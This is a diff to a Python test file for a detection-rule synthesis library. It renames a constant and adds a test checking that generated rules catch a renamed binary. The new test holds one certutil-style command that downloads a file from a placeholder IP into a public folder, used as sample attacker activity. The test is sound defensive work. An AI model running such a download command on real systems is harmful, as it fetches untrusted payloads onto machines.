@@ -14,7 +14,7 @@ from longtail.detections.predicates import EVENT, conjunction, lowered
 from longtail.detections.proof import lawful, proof, status
 from longtail.detections.rules import Rule, rule_id
 from longtail.detections.sigma import parsed
-from longtail.detections.synthesis import MOST_HITS, Found, synthesised
+from longtail.detections.synthesis import MOST_EXPECTED, Found, synthesised
 
 S32 = "C:\\Windows\\System32\\"
 NOW = datetime(2026, 3, 4, 5, tzinfo=UTC)
@@ -89,7 +89,7 @@ def test_more_lawful_use_makes_a_narrower_rule() -> None:
                  for host in range(60)]  # fmt: skip
     narrow, _, of_fleet = made([deed(ATTACK)], [*quiet(), *to_public])
     assert wide[0].logic.kept > narrow[0].logic.kept
-    assert all(each.logic.expected <= MOST_HITS for each in (*wide, *narrow))
+    assert all(each.logic.expected <= MOST_EXPECTED for each in (*wide, *narrow))
     assert proof(narrow[0], lawful(of_fleet)).whole.host_days == 0
 
 
@@ -109,6 +109,13 @@ def test_a_system_programs_name_elsewhere_is_one() -> None:
     (found,), _, _ = made([deed("svchost.exe -k netsvcs", "C:\\Windows\\System33\\svchost.exe")], quiet())
     assert fires(found, "x", "D:\\a\\svchost.exe")
     assert not fires(found, "x", S32 + "svchost.exe")
+
+
+def test_a_renamed_program_is_not_the_program() -> None:
+    line = "x.exe -urlcache -f http://198.51.100.7/a c:\\Users\\Public\\a.exe"
+    (found,), _, _ = made([deed(line, "C:\\Users\\Public\\x.exe")], quiet())
+    assert fires(found, line.replace("x.exe", "other.exe"), "D:\\other.exe")
+    assert not fires(found, line, S32 + "certutil.exe")
 
 
 def test_ways_apart_become_rules_apart() -> None:
